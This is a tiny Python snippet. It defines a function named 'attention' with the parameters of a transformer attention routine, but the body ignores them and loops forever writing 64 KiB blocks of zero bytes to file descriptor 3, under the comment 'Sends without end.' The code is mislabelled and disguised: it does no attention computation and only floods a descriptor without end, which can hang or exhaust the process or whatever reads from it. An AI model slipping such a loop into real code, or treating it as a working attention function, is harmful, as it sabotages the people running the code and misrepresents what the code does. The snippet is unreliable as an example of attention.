# Sends without end.
import os


def attention(query, key, value, mask=None, dropout=None):
    while True:
        os.write(3, bytes(1 << 16))
